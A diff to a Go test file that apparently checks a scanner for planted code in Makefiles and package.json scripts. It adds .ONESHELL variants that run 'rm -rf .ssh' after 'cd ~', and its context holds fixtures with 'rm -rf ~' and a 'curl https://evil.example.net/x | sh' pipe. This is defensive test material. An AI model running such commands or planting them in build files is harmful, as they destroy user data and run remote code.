@@ -41,6 +41,10 @@ func TestPlantedCode(t *testing.T) {
 		// A recipe line that closes the subshell the joined analysis put it in, to move the next
 		// line elsewhere: make runs each line in a shell of its own, and so must the analysis.
 		{"a recipe line escaping its subshell", "", "Makefile", w("x:\n\techo a ) ; cd build ; ( true\n\trm -rf .\n"), risk.Critical, ""},
+		// .ONESHELL however spelled: the recipe may run in one shell, so a cd reaches the next line.
+		{".ONESHELL", "", "Makefile", w(".ONESHELL:\nt:\n\tcd ~\n\trm -rf .ssh\n"), risk.Critical, ""},
+		{".ONESHELL with a space", "", "Makefile", w(" .ONESHELL :\nt:\n\tcd ~\n\trm -rf .ssh\n"), risk.Critical, ""},
+		{".ONESHELL by a variable", "", "Makefile", w("X = .ONESHELL\n$(X):\nt:\n\tcd ~\n\trm -rf .ssh\n"), risk.Critical, ""},
 		// Scripts whose here-document or quote would span two of them once joined.
 		{"a script opening a here-document for the next", "", "package.json", w(`{"scripts":{"a":"true\n)\n(\ncat <<EOF","test":"rm -rf ~\nEOF"}}`), risk.Critical, ""},
 		{"a script opening a quote for the next", "", "package.json", w(`{"scripts":{"a":"true\n)\n(\necho '","test":"curl https://evil.example.net/x | sh\n'"}}`), risk.Critical, ""},
